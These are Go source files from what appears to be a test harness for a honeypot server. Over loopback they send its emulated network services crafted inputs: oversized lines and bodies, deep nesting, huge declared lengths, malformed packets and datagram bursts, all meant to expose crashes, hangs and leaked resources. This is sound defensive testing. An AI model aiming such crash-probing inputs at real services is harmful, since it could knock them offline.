		ins = append(ins, expand(redisStream(r), r, ex, sample)...)
		ins = append(ins, expand(telnetStream(r), r, true, 0)...)
		if i%4 == 3 {
			ins = append(ins, expand(telnetMalformed(r), r, tier != "quick", 16)...)
		}
		ins = append(ins, expand(ldapStream(r), r, ex, sample+6)...)
		ins = append(ins, expand(memcachedStream(r, i%2 == 1), r, ex, sample)...)
		ins = append(ins, expand(httpStream(r, "http", r.Range(1, 3), i%2 == 1), r, ex, sample)...)
		// one request per connection by design (property quantifier)
		for _, svc := range []string{"docker", "cwmp", "elasticsearch", "eos", "ethereum"} {
			ins = append(ins, expand(httpStream(r, svc, 1, true), r, false, sample+4)...)
		}
		ins = append(ins, expand(httpMalformed(r, r.PickStr([]string{"http", "docker", "eos", "cwmp"})), r, false, 4)...)
	}
	// bodies beyond the 1024-byte payload buffer and beyond one 8192-byte discard read
	big := httpReq{method: "POST", path: "/upload", host: "h", body: strings.Repeat("0123456789abcdef", 75)}
	huge := httpReq{method: "PUT", path: "/big", host: "h", body: strings.Repeat("0123456789abcdef", 600)}
	for _, q := range []httpReq{big, huge} {
		s := stream{svc: "http", units: []string{q.String(), "GET /after HTTP/1.1\r\nHost: h\r\n\r\n"}}
		ins = append(ins, expand(s, r, false, 12)...)
	}
	// lines longer than the 4096-byte buffer
	long := strings.Repeat("A", 5000)
	ins = append(ins, expand(stream{svc: "ftp", units: []string{"USER " + long + "\r\n", "NOOP\r\n"}}, r, false, 6)...)
	ins = append(ins, expand(stream{svc: "memcached", units: []string{"get " + long + "\r\n", "stats\r\n"}}, r, false, 6)...)
	ins = append(ins, expand(stream{svc: "smtp", units: []string{"EHLO " + long + "\r\n", "NOOP\r\n"}}, r, false, 6)...)
	ins = append(ins, expand(stream{svc: "redis", units: []string{resp("GET", long), resp("PING")}}, r, false, 6)...)
	// array nesting at and beyond the depth bound (32)
	for _, depth := range []int{31, 32, 33, 34, 40} {
		ins = append(ins, expand(stream{svc: "redis", units: []string{resp("PING"), strings.Repeat("*1\r\n", depth) + "$1\r\nx\r\n", resp("INFO")}}, r, false, 4)...)
	}
	ins = append(ins, datagrams(r, nudp)...)
	// storage commands over UDP whose data block is cut short or missing (the witnesses of the
	// former spin on a datagram connection that never reported end of stream)
	hdr := "\x00\x01\x00\x00\x00\x01\x00\x00"
	ins = append(ins, Input{Svc: "memcached-udp", Stream: []byte(hdr + "append k 0 0 5\r\nab"), Mode: "datagram"},
		Input{Svc: "memcached-udp", Stream: []byte(hdr + "set k 0 0 5\r\n"), Mode: "datagram"})
	return ins
}
