package main

import (
	"fmt"
	"net"
	"runtime"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"verif/harness/hx"
	"verif/harness/lab"
)

// The real server with the real "socket" listener on loopback: dns, tftp, counterstrike and
// memcached on free udp ports, a capture channel behind a catch-all filter.  A burst of
// distinct datagrams is sent back to back (no waiting between sends), each from its own
// socket bound to its own loopback address (so the amplification limiter keeps out of it;
// source address + port identify the datagram).  Every datagram becomes one case: its bytes
// and the events that carry its source address.
type sockResult struct {
	in    Input
	ob    Obs
	crash string
}

var sockSvcs = []string{"dns", "tftp", "counterstrike", "memcached-udp"}
var sockSeq int

func anyField(e event.Event, key string) string {
	out := ""
	e.Range(func(k, v interface{}) bool {
		if ks, ok := k.(string); ok && ks == key {
			out = fmt.Sprint(v)
			return false
		}
		return true
	})
	return out
}

func burstDatagram(r *hx.Rand, svc string, i int) []byte {
	switch svc {
	case "dns":
		return dnsQuery(r.Range(0, 65535), fmt.Sprintf("host%d.%s", i, r.PickStr([]string{"example.org", "test", "a.b.c"})))
	case "tftp":
		return []byte(fmt.Sprintf("\x00%c/files/%d-%s\x00%s\x00", byte(r.Range(1, 2)), i, r.PickStr([]string{"boot.img", "x", "firmware-image.bin"}), r.PickStr([]string{"octet", "netascii"})))
	case "counterstrike":
		return []byte("\xff\xff\xff\xff" + r.PickStr([]string{"T", "U", "V", "W", "i"}) + fmt.Sprintf("probe-%d-%s", i, strings.Repeat("z", r.Range(0, 40))))
	default:
		return append([]byte{0, byte(i), 0, 0, 0, 1, 0, 0}, fmt.Sprintf("get key-%d-%s\r\n", i, strings.Repeat("k", r.Range(0, 30)))...)
	}
}

func sockRound(r *hx.Rand, scratch string, n int, must []Input) []sockResult {
	ports := lab.FreePorts(3 + len(sockSvcs))
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"socket\"\n\n[channel.cap]\ntype=\"verif-cap\"\nname=\"cap\"\n\n[[filter]]\nchannel=[\"cap\"]\n\n")
	sb.WriteString("[service.ready]\ntype=\"verif-stub\"\nname=\"ready\"\nreadsize=64\n\n")
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"ready\"]\n\n", ports[0])
	port := map[string]int{}
	for i, s := range sockSvcs {
		fmt.Fprintf(&sb, "[service.u%d]\ntype=%q\n\n[[port]]\nport=\"udp/127.0.0.1:%d\"\nservices=[\"u%d\"]\n\n", i, regName(s), ports[1+i], i)
		port[s] = ports[1+i]
	}
	// shared tcp ports: a service with a detector (http) listed first, so that the server peeks
	// and hands the chosen service the peek wrapper
	sharedPort := map[string]int{"telnet": ports[1+len(sockSvcs)], "redis": ports[2+len(sockSvcs)]}
	sb.WriteString("[service.hfirst]\ntype=\"http\"\n\n[service.tn]\ntype=\"telnet\"\n\n[service.rd]\ntype=\"redis\"\n\n")
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"hfirst\",\"tn\"]\n\n", sharedPort["telnet"])
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"hfirst\",\"rd\"]\n\n", sharedPort["redis"])
	l, err := lab.StartSocket(sb.String(), scratch, fmt.Sprintf("127.0.0.1:%d", ports[0]))
	if err != nil {
		hx.Fatal("socket lab: %v", err)
	}
	defer l.Stop()
	time.Sleep(50 * time.Millisecond)

	type sent struct {
		in   Input
		conn *net.UDPConn
		key  string
	}
	var all []sent
	add := func(svc string, payload []byte) {
		sockSeq++
		src := &net.UDPAddr{IP: net.IPv4(127, 1, byte(sockSeq>>8), byte(sockSeq))}
		c, err := net.DialUDP("udp4", src, &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: port[svc]})
		if err != nil {
			hx.Fatal("dial udp from %v: %v", src, err)
		}
		la := c.LocalAddr().(*net.UDPAddr)
		all = append(all, sent{in: Input{Svc: svc, Stream: payload, Mode: "socket-burst"}, conn: c, key: fmt.Sprintf("%s:%d", la.IP.String(), la.Port)})
	}
	for _, m := range must {
		if _, ok := port[m.Svc]; ok {
			add(m.Svc, m.Stream)
		}
	}
	// runs of consecutive datagrams to the same port
	for len(all) < n {
		svc := sockSvcs[r.Intn(len(sockSvcs))]
		for k := r.Range(3, 8); k > 0 && len(all) < n; k-- {
			add(svc, burstDatagram(r, svc, len(all)))
		}
	}
	burstKeys := map[string]bool{}
	for _, s := range all {
		burstKeys[s.key] = true
	}
	// the burst: back to back
	for _, s := range all {
		s.conn.Write(s.in.Stream)
	}
	// Load-proof: every datagram of the burst is built to yield exactly ONE event, and the event
	// bus delivers synchronously from the goroutine that runs Handle.  Wait until that NUMBER of
	// events has arrived (generous deadline: only a run that really loses events waits it out),
	// then give surplus events (a datagram reported twice) a few scheduler round trips.
	count := func() int {
		k := 0
		for _, e := range l.EventsOf("cap") {
			if burstKeys[e.Get("source-ip")+":"+anyField(e, "source-port")] {
				k++
			}
		}
		return k
	}
	deadline := time.Now().Add(10 * time.Second)
	for count() < len(all) && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	for i := 0; i < 200; i++ {
		runtime.Gosched()
	}
	evs := l.EventsOf("cap")
	var out []sockResult
	for _, s := range all {
		s.conn.Close()
		ob := Obs{}
		for _, e := range evs {
			if e.Get("source-ip")+":"+anyField(e, "source-port") == s.key {
				ob.Events = append(ob.Events, toEv(e))
			}
		}
		out = append(out, sockResult{in: s.in, ob: ob})
	}
	out = append(out, sharedPortSessions(r, l, sharedPort, must)...)
	return out
}

// a long pipelined telnet session (well over the terminal's 256-byte input buffer), text in UTF-8
func longTelnet(r *hx.Rand) stream {
	s := stream{svc: "telnet", units: []string{"root\r\n", "hunter2\r\n"}}
	n := r.Range(12, 24)
	for i := 0; i < n; i++ {
		// multi-byte characters everywhere: the 256-byte reads and the TCP segments end inside them
		s.units = append(s.units, fmt.Sprintf("echo command-%02d %s %s\r\n", i, strings.Repeat("x", r.Range(0, 40)), r.PickStr(utf8Words)))
	}
	return s
}

// Shared-port delivery: the connection reaches the service through server.findService (peek of
// up to 1024 bytes, http's CanHandle first) over real loopback TCP, one Write per segment with
// a pause between segments; first segments above and below the service's read size.
func sharedPortSessions(r *hx.Rand, l *lab.Lab, port map[string]int, must []Input) []sockResult {
	var ins []Input
	for _, m := range must {
		if m.Mode == "shared-port" {
			ins = append(ins, m)
		}
	}
	if len(ins) == 0 {
		for k := 0; k < 2; k++ {
			t := longTelnet(r)
			total := len(t.bytes())
			ins = append(ins, t.input("shared-port", nil, nil), // one write
				t.input("shared-port", []int{r.Range(257, minInt(total-1, 1000))}, nil), // long first segment
				t.input("shared-port", []int{r.Range(1, 200)}, nil))                    // short first segment
		}
		ls := lockstep(longTelnet(r), r, false)
		ls.Mode = "shared-port"
		ins = append(ins, ls)
		rs := stream{svc: "redis"}
		for i := 0; i < 30; i++ {
			rs.units = append(rs.units, resp("SET", fmt.Sprintf("key-%d", i), strings.Repeat("v", r.Range(0, 60))))
		}
		ins = append(ins, rs.input("shared-port", nil, nil), rs.input("shared-port", []int{r.Range(300, 900)}, nil))
	}
	var out []sockResult
	for _, in := range ins {
		sockSeq++
		src := &net.TCPAddr{IP: net.IPv4(127, 1, byte(sockSeq>>8), byte(sockSeq))}
		d := net.Dialer{LocalAddr: src, Timeout: 2 * time.Second}
		c, err := d.Dial("tcp4", fmt.Sprintf("127.0.0.1:%d", port[in.Svc]))
		if err != nil {
			hx.Fatal("dial shared port: %v", err)
		}
		la := c.LocalAddr().(*net.TCPAddr)
		key := fmt.Sprintf("%s:%d", la.IP.String(), la.Port)
		// replies are read and thrown away
		fin := make(chan struct{})
		go func() {
			buf := make([]byte, 65536)
			for {
				if _, err := c.Read(buf); err != nil {
					close(fin)
					return
				}
			}
		}()
		for i, seg := range segments(in) {
			if i > 0 {
				time.Sleep(4 * time.Millisecond)
			}
			c.SetWriteDeadline(time.Now().Add(2 * time.Second))
			if _, err := c.Write(seg); err != nil {
				break
			}
		}
		time.Sleep(4 * time.Millisecond)
		c.(*net.TCPConn).CloseWrite()
		crash := ""
		select {
		case <-fin:
		case <-time.After(30 * time.Second):
			crash = "server did not close the connection 30 s after the client's FIN"
		}
		c.Close()
		// Load-proof: the client has seen the end of the stream, i.e. the server closed the
		// connection, which it does after Handle returned; telnet and redis send their events
		// from the goroutine that runs Handle and the bus delivers synchronously, so every event
		// of this connection is in the capture channel now.
		mine := func() []Ev {
			var evs []Ev
			for _, e := range l.EventsOf("cap") {
				if e.Get("source-ip")+":"+anyField(e, "source-port") == key && e.Get("category") == in.Svc {
					evs = append(evs, toEv(e))
				}
			}
			return evs
		}
		out = append(out, sockResult{in: in, ob: Obs{Events: mine()}, crash: crash})
	}
	return out
}
