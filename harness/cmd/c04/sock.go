package main

import (
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"verif/harness/hx"
	"verif/harness/lab"
)

// The real server with the real "socket" listener on loopback: dns, tftp, counterstrike and
// memcached on free udp ports, a capture channel behind a catch-all filter.  A burst of
// distinct datagrams is sent back to back (no waiting between sends), each from its own
// socket bound to its own loopback address (so the amplification limiter keeps out of it;
// source address + port identify the datagram).  Every datagram becomes one case: its bytes
// and the events that carry its source address.
type sockResult struct {
	in Input
	ob Obs
}

var sockSvcs = []string{"dns", "tftp", "counterstrike", "memcached-udp"}
var sockSeq int

func anyField(e event.Event, key string) string {
	out := ""
	e.Range(func(k, v interface{}) bool {
		if ks, ok := k.(string); ok && ks == key {
			out = fmt.Sprint(v)
			return false
		}
		return true
	})
	return out
}

func burstDatagram(r *hx.Rand, svc string, i int) []byte {
	switch svc {
	case "dns":
		return dnsQuery(r.Range(0, 65535), fmt.Sprintf("host%d.%s", i, r.PickStr([]string{"example.org", "test", "a.b.c"})))
	case "tftp":
		return []byte(fmt.Sprintf("\x00%c/files/%d-%s\x00%s\x00", byte(r.Range(1, 2)), i, r.PickStr([]string{"boot.img", "x", "firmware-image.bin"}), r.PickStr([]string{"octet", "netascii"})))
	case "counterstrike":
		return []byte("\xff\xff\xff\xff" + r.PickStr([]string{"T", "U", "V", "W", "i"}) + fmt.Sprintf("probe-%d-%s", i, strings.Repeat("z", r.Range(0, 40))))
	default:
		return append([]byte{0, byte(i), 0, 0, 0, 1, 0, 0}, fmt.Sprintf("get key-%d-%s\r\n", i, strings.Repeat("k", r.Range(0, 30)))...)
	}
}

func sockRound(r *hx.Rand, scratch string, n int, must []Input) []sockResult {
	ports := lab.FreePorts(1 + len(sockSvcs))
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"socket\"\n\n[channel.cap]\ntype=\"verif-cap\"\nname=\"cap\"\n\n[[filter]]\nchannel=[\"cap\"]\n\n")
	sb.WriteString("[service.ready]\ntype=\"verif-stub\"\nname=\"ready\"\nreadsize=64\n\n")
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"ready\"]\n\n", ports[0])
	port := map[string]int{}
	for i, s := range sockSvcs {
		fmt.Fprintf(&sb, "[service.u%d]\ntype=%q\n\n[[port]]\nport=\"udp/127.0.0.1:%d\"\nservices=[\"u%d\"]\n\n", i, regName(s), ports[1+i], i)
		port[s] = ports[1+i]
	}
	l, err := lab.StartSocket(sb.String(), scratch, fmt.Sprintf("127.0.0.1:%d", ports[0]))
	if err != nil {
		hx.Fatal("socket lab: %v", err)
	}
	defer l.Stop()
	time.Sleep(50 * time.Millisecond)

	type sent struct {
		in   Input
		conn *net.UDPConn
		key  string
	}
	var all []sent
	add := func(svc string, payload []byte) {
		sockSeq++
		src := &net.UDPAddr{IP: net.IPv4(127, 1, byte(sockSeq>>8), byte(sockSeq))}
		c, err := net.DialUDP("udp4", src, &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: port[svc]})
		if err != nil {
			hx.Fatal("dial udp from %v: %v", src, err)
		}
		la := c.LocalAddr().(*net.UDPAddr)
		all = append(all, sent{in: Input{Svc: svc, Stream: payload, Mode: "socket-burst"}, conn: c, key: fmt.Sprintf("%s:%d", la.IP.String(), la.Port)})
	}
	for _, m := range must {
		if _, ok := port[m.Svc]; ok {
			add(m.Svc, m.Stream)
		}
	}
	// runs of consecutive datagrams to the same port
	for len(all) < n {
		svc := sockSvcs[r.Intn(len(sockSvcs))]
		for k := r.Range(3, 8); k > 0 && len(all) < n; k-- {
			add(svc, burstDatagram(r, svc, len(all)))
		}
	}
	// the burst: back to back
	for _, s := range all {
		s.conn.Write(s.in.Stream)
	}
	// one event per datagram is expected; wait for them (or 2 s), then for silence
	deadline := time.Now().Add(2 * time.Second)
	count := func() int {
		k := 0
		for _, e := range l.EventsOf("cap") {
			if e.Get("source-ip") != "" && strings.HasPrefix(e.Get("source-ip"), "127.1.") {
				k++
			}
		}
		return k
	}
	for count() < len(all) && time.Now().Before(deadline) {
		time.Sleep(2 * time.Millisecond)
	}
	time.Sleep(30 * time.Millisecond)
	evs := l.EventsOf("cap")
	var out []sockResult
	for _, s := range all {
		s.conn.Close()
		ob := Obs{}
		for _, e := range evs {
			if e.Get("source-ip")+":"+anyField(e, "source-port") == s.key {
				ob.Events = append(ob.Events, toEv(e))
			}
		}
		out = append(out, sockResult{in: s.in, ob: ob})
	}
	return out
}
