// Two further dimensions of the input space:
//   - SIZE: very long runs of each protocol's cheapest repeated token (empty lines, nested
//     openers, spaces, NUL, minimal messages), per service, sent as a small chunk repeated
//     Rep+1 times.  The child runs with a goroutine stack ceiling of 16 MB
//     (debug.SetMaxStack), so a recursion that deepens with every token ends the process at
//     about 1e5 tokens instead of several millions.
//   - ABANDONED RESOURCES: multi-step dialogues that leave something behind which a
//     goroutine outside the handler's recover looks after (ftp passive data socket that is
//     never connected), continued in each of the ways the session can go on or end.
package main

import (
	"fmt"
)

type sizeTok struct {
	pre  []byte // sent once (raw)
	tok  []byte // repeated
	http *httpT // the run is the body of a POST: the head carries its Content-Length
}

type httpT struct {
	path, ctype string
	bodyPre     []byte // start of the body, before the repeated token
}

// cheapest repeated tokens per service
func sizeTokens(svc string) []sizeTok {
	line := []sizeTok{{tok: bs("\r\n")}, {tok: bs("\n")}, {tok: bs(" ")}, {tok: []byte{0}}}
	jsonBody := func(path string) []sizeTok {
		return []sizeTok{{http: &httpT{path, "application/json", nil}, tok: bs("[")}, {http: &httpT{path, "application/json", nil}, tok: bs(`{"a":`)},
			{pre: bs("GET / HTTP/1.1\r\n"), tok: bs("a: b\r\n")}, {tok: bs("\r\n")}}
	}
	switch svc {
	case "redis":
		return append(line, sizeTok{tok: bs("*1\r\n")}, sizeTok{tok: bs("*1\n")}, sizeTok{tok: bs("$0\r\n\r\n")}, sizeTok{tok: bs("+\r\n")},
			sizeTok{pre: bs("*1\r\n"), tok: bs("\r\n")}, sizeTok{tok: bs("*2\r\n\r\n")})
	case "memcached":
		return append(line, sizeTok{tok: bs("get a\r\n")}, sizeTok{pre: bs("set k 0 0 "), tok: bs("9")})
	case "smtp":
		return append(line, sizeTok{pre: bs("EHLO a\r\n"), tok: bs("\r\n")}, sizeTok{pre: bs("EHLO a\r\nMAIL FROM:<a>\r\nDATA\r\n"), tok: bs("a: b\r\n")},
			sizeTok{pre: bs("EHLO a\r\nMAIL FROM:<a>\r\n"), tok: bs("RCPT TO:<b>\r\n")})
	case "ftp":
		return append(line, sizeTok{tok: bs("NOOP\r\n")}, sizeTok{pre: bs("USER anonymous\r\nPASS anonymous\r\n"), tok: bs("FEAT\r\n")},
			sizeTok{pre: bs("USER anonymous\r\nPASS anonymous\r\n"), tok: bs("CWD a\r\n")})
	case "telnet":
		return append(line, sizeTok{pre: bs("root\r\npw\r\n"), tok: bs("\r\n")},
			sizeTok{tok: []byte{0xff, 0xfb, 0x01}}, sizeTok{pre: bs("root\r\npw\r\n"), tok: bs("a")})
	case "http", "https":
		return []sizeTok{{tok: bs("\r\n")}, {pre: bs("GET / HTTP/1.1\r\n"), tok: bs("a: b\r\n")}, {pre: bs("GET /"), tok: bs("a")},
			{http: &httpT{"/", "application/x-www-form-urlencoded", nil}, tok: bs("a=b&")}, {tok: bs("GET / HTTP/1.1\r\nHost: a\r\n\r\n")}}
	case "cwmp":
		return []sizeTok{{http: &httpT{"/", "text/xml", nil}, tok: bs("<a>")}, {http: &httpT{"/", "text/xml", bs("<soap:Envelope xml ")}, tok: bs("<b>")},
			{pre: bs("GET / HTTP/1.1\r\n"), tok: bs("a: b\r\n")}, {tok: bs("\r\n")}}
	case "docker":
		return jsonBody("/v1.24/containers/create")
	case "elasticsearch":
		return jsonBody("/idx/_doc")
	case "eos":
		return jsonBody("/v1/chain/get_info")
	case "ethereum":
		return jsonBody("/")
	case "ipp":
		hdr := []byte{1, 1, 0, 0x0b, 0, 0, 0, 1}
		return []sizeTok{{http: &httpT{"/", "application/ipp", hdr}, tok: []byte{1}}, {http: &httpT{"/", "application/ipp", cat(hdr, []byte{1})}, tok: []byte{0x22, 0, 0, 0, 1, 1}},
			{http: &httpT{"/", "application/ipp", cat(hdr, []byte{1})}, tok: []byte{0x44, 0, 1, 'a', 0, 1, 'b'}}, {tok: bs("\r\n")}}
	case "ldap":
		return []sizeTok{{tok: []byte{0x30, 0x80}}, {tok: []byte{0x30, 0x00}}, {tok: []byte{0x30, 0x05, 0x02, 0x01, 0x01, 0x50, 0x00}},
			{pre: []byte{0x30, 0x84, 0x00, 0x0f, 0x00, 0x00}, tok: []byte{0x30, 0x02, 0x30, 0x00}}, {tok: []byte{0}}}
	case "vnc":
		hello := cat(bs("RFB 003.008\n"), []byte{1, 1})
		return []sizeTok{{pre: hello, tok: []byte{4, 1, 0, 0, 0, 0, 0, 0x61}}, {pre: hello, tok: vncUpdReq(1)}, {pre: hello, tok: []byte{2, 0, 0, 0}}, {tok: bs("\n")}}
	case "adb":
		return []sizeTok{{pre: adbPkt("CNXN", 0x01000000, 4096, bs("host::\x00")), tok: adbPkt("OKAY", 1, 2, nil)}, {tok: bs("CNXN")}, {tok: []byte{0}}}
	case "ssh-auth", "ssh-simulator":
		return []sizeTok{{tok: bs("\n")}, {tok: bs("a\r\n")}, {pre: bs("SSH-2.0-x\r\n"), tok: []byte{0, 0, 0, 1, 0}}}
	}
	return line
}

// sizeScenarios: tokens = number of repetitions of the token per run
func sizeScenarios(tokens, maxBytes int) []Scenario {
	var out []Scenario
	count := func(tok []byte) int {
		n := tokens
		if n*len(tok) > maxBytes {
			n = maxBytes / len(tok)
		}
		return n / 100 * 100
	}
	rep100 := func(tok []byte) []byte {
		chunk := make([]byte, 0, 100*len(tok))
		for i := 0; i < 100; i++ {
			chunk = append(chunk, tok...)
		}
		return chunk
	}
	for _, d := range svcDefs {
		if d.TCP {
			for _, t := range sizeTokens(d.Name) {
				tokens := count(t.tok)
				cn := Conn{Segs: toB([][]byte{rep100(t.tok)}), Rep: tokens/100 - 1}
				if t.http != nil {
					head := bs(fmt.Sprintf("POST %s HTTP/1.1\r\nHost: lab\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n",
						t.http.path, t.http.ctype, len(t.http.bodyPre)+tokens*len(t.tok)))
					cn.Pre = toB([][]byte{cat(head, t.http.bodyPre)})
				} else if t.pre != nil {
					cn.Pre = toB([][]byte{t.pre})
				}
				out = append(out, Scenario{Svc: d.Name, Proto: "tcp", Kind: "size", Conns: []Conn{cn}, HangMs: 8000})
			}
		}
		if d.UDP {
			// one datagram of ~60 KB per token kind
			for _, tok := range [][]byte{{0}, {0xff}, bs("\n"), {0, 2}, {0x30, 0x80}} {
				out = append(out, Scenario{Svc: d.Name, Proto: "udp", Kind: "size", HangMs: 8000,
					Conns: []Conn{{Segs: toB([][]byte{rep100(tok)}), Rep: 60000/len(tok)/100 - 1, Join: true}}})
			}
		}
	}
	return out
}

// ---- abandoned resources ----

func ftpAbandonScenarios(long bool) []Scenario {
	login := "USER anonymous\r\nPASS anonymous\r\n"
	mk := func(kind, local string, linger, hang int, lines ...string) Scenario {
		s := login
		for _, l := range lines {
			s += l + "\r\n"
		}
		return Scenario{Svc: "ftp", Proto: "tcp", Kind: kind, Local: local, Linger: linger, HangMs: hang, Conns: []Conn{{Segs: toB([][]byte{bs(s)})}}}
	}
	v6 := "2001:db8::21"
	var out []Scenario
	// a passive socket nobody connects to, then every way the session can go on or end
	for _, open := range []struct{ cmd, local string }{{"PASV", ""}, {"EPSV", v6}} {
		for _, next := range [][]string{
			{},                                   // the client just goes away
			{"QUIT"},                             // orderly end
			{open.cmd},                           // replaced by another passive socket
			{open.cmd, open.cmd, "QUIT"},         // twice
			{"PORT 127,0,0,1,0,1"},               // replaced by an active socket (refused)
			{"EPRT |1|127.0.0.1|1|"},             //
			{"PORT 1,2"},                         // recovered panic with the socket open
			{"PORT x"},                           //
			{"EPRT |1|"},                         //
			{"EPRT |"},                           //
			{"REIN"}, {"ABOR"}, {"NOOP", "QUIT"}, // commands that do not touch it
		} {
			out = append(out, mk("ftp-abandon", open.local, 60, 0, append([]string{open.cmd}, next...)...))
		}
	}
	// PASV on an IPv6 destination: recovered panic after the socket was opened
	out = append(out, mk("ftp-abandon", v6, 60, 0, "PASV"), mk("ftp-abandon", v6, 60, 0, "PASV", "QUIT"), mk("ftp-abandon", "", 60, 0, "EPSV"))
	if long {
		// the 30 s accept timeout of the passive socket, with the session idle / waiting for the data connection / gone
		out = append(out,
			mk("ftp-abandon-timeout", "", 31500, 36000, "PASV"),
			mk("ftp-abandon-timeout", "", 31500, 36000, "PASV", "LIST"),
			mk("ftp-abandon-timeout", "", 31500, 36000, "PASV", "STOR a"),
			mk("ftp-abandon-timeout", v6, 31500, 36000, "EPSV", "RETR a"),
			mk("ftp-abandon-timeout", "", 31500, 36000, "PASV", "PORT 1,2"))
	}
	return out
}
