package main

import (
	"net"
	"time"

	"golang.org/x/crypto/ssh"

	"verif/harness/hx"
)

// SSHReq is one channel request sent on the opened channel.
type SSHReq struct {
	Type    string `json:"type"`
	Payload hx.B   `json:"payload"`
}

// SSHIn: authenticate with a password (ssh-simulator accepts any), open one channel
// of the given type (default "session") and send the requests without waiting for
// replies (a handler that never answers must not block the client).
type SSHIn struct {
	User  string   `json:"user,omitempty"`
	Chan  string   `json:"chan,omitempty"`
	Extra hx.B     `json:"extra,omitempty"`
	Reqs  []SSHReq `json:"reqs,omitempty"`
	Data  []hx.B   `json:"data,omitempty"` // written to the channel after the requests (shell input)
}

func playSSH(cc net.Conn, in *SSHIn) {
	user := in.User
	if user == "" {
		user = "root"
	}
	cfg := &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{ssh.Password("root")},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 3 * time.Second}
	cc.SetDeadline(time.Now().Add(5 * time.Second))
	c, chans, reqs, err := ssh.NewClientConn(cc, "lab", cfg)
	if err != nil {
		return
	}
	cc.SetDeadline(time.Time{})
	go ssh.DiscardRequests(reqs)
	go func() {
		for nc := range chans {
			nc.Reject(ssh.Prohibited, "no")
		}
	}()
	ct := in.Chan
	if ct == "" {
		ct = "session"
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		ch, creqs, err := c.OpenChannel(ct, in.Extra)
		if err != nil {
			return
		}
		go ssh.DiscardRequests(creqs)
		for _, r := range in.Reqs {
			if _, err := ch.SendRequest(r.Type, false, r.Payload); err != nil {
				return
			}
		}
		for _, d := range in.Data {
			time.Sleep(20 * time.Millisecond)
			if _, err := ch.Write(d); err != nil {
				return
			}
		}
	}()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
	}
	// the caller lingers, then closes the transport
}
