// Declared sizes: every size field of the text protocols at values no machine can hold
// (and at ones it can), with and without the announced data following; and every prefix
// of every multi-byte key sequence at the end of a write for the line editors.
package main

import (
	"fmt"
)

var declSizes = []string{"2147483648", "4294967296", "1099511627776", "70368744177664", "140737488355328", "4611686018427387904", "9223372036854775807", "18446744073709551615", "-1", "80", "81"}

func declScenarios() []Scenario {
	var out []Scenario
	add := func(svc string, proto string, segs ...string) {
		var b [][]byte
		for _, s := range segs {
			b = append(b, bs(s))
		}
		out = append(out, Scenario{Svc: svc, Proto: proto, Kind: "decl", Linger: 30, Conns: []Conn{{Segs: toB(b)}}})
	}
	for _, n := range declSizes {
		for _, data := range []string{"", "hello\r\n"} {
			// memcached storage commands
			for _, cmd := range []string{"set", "add", "append", "cas"} {
				add("memcached", "tcp", fmt.Sprintf("%s k 0 0 %s\r\n%s", cmd, n, data))
			}
			add("memcached", "udp", fmt.Sprintf("\x00\x01\x00\x00\x00\x01\x00\x00set k 0 0 %s\r\n%s", n, data))
			// redis array and bulk sizes
			add("redis", "tcp", fmt.Sprintf("*%s\r\n%s", n, data))
			add("redis", "tcp", fmt.Sprintf("$%s\r\n%s", n, data))
			add("redis", "tcp", fmt.Sprintf("*2\r\n$4\r\ninfo\r\n$%s\r\n%s", n, data))
			add("redis", "tcp", fmt.Sprintf("*1\r\n:%s\r\n%s", n, data))
			// http family: Content-Length and chunk size
			for _, svc := range []string{"http", "https", "docker", "elasticsearch", "eos", "ethereum", "cwmp", "ipp"} {
				ct := map[string]string{"ipp": "application/ipp", "cwmp": "text/xml"}[svc]
				if ct == "" {
					ct = "application/json"
				}
				path := map[string]string{"docker": "/v1.24/containers/create", "elasticsearch": "/i/_doc", "eos": "/v1/chain/get_info"}[svc]
				if path == "" {
					path = "/"
				}
				add(svc, "tcp", fmt.Sprintf("POST %s HTTP/1.1\r\nHost: lab\r\nContent-Type: %s\r\nContent-Length: %s\r\n\r\n%s", path, ct, n, data))
			}
			add("http", "tcp", fmt.Sprintf("POST / HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked\r\n\r\n%s\r\n%s", n, data))
			add("ethereum", "tcp", fmt.Sprintf("POST / HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked\r\n\r\n%s\r\n%s", n, data))
			// smtp BDAT
			add("smtp", "tcp", fmt.Sprintf("EHLO a\r\nMAIL FROM:<a>\r\nBDAT %s\r\n%s", n, data))
			add("smtp", "tcp", fmt.Sprintf("EHLO a\r\nMAIL FROM:<a>\r\nBDAT %s LAST\r\n%s", n, data))
			// ftp restart offset / allocation
			add("ftp", "tcp", fmt.Sprintf("USER anonymous\r\nPASS anonymous\r\nREST %s\r\nRETR a\r\nALLO %s\r\nSIZE a\r\nQUIT\r\n%s", n, n, data))
			add("ftp", "tcp", fmt.Sprintf("USER anonymous\r\nPASS anonymous\r\nALLO %s R %s\r\nREST %s\r\nSTOR b\r\n%s", n, n, n, data))
		}
	}
	// binary size fields: adb data length, vnc encodings count, tftp block
	for _, l := range []uint32{0x7fffffff, 0x80000000, 0xffffffff, 1 << 20} {
		p := adbPkt("CNXN", 0x01000000, 4096, bs("host::\x00"))
		p[12], p[13], p[14], p[15] = byte(l), byte(l>>8), byte(l>>16), byte(l>>24)
		w := adbPkt("WRTE", 7, 9, bs("ls\r"))
		w[12], w[13], w[14], w[15] = byte(l), byte(l>>8), byte(l>>16), byte(l>>24)
		out = append(out, Scenario{Svc: "adb", Proto: "tcp", Kind: "decl", Linger: 30, Conns: []Conn{{Segs: toB([][]byte{p, adbPkt("OPEN", 7, 0, bs("shell:\x00")), w})}}})
	}
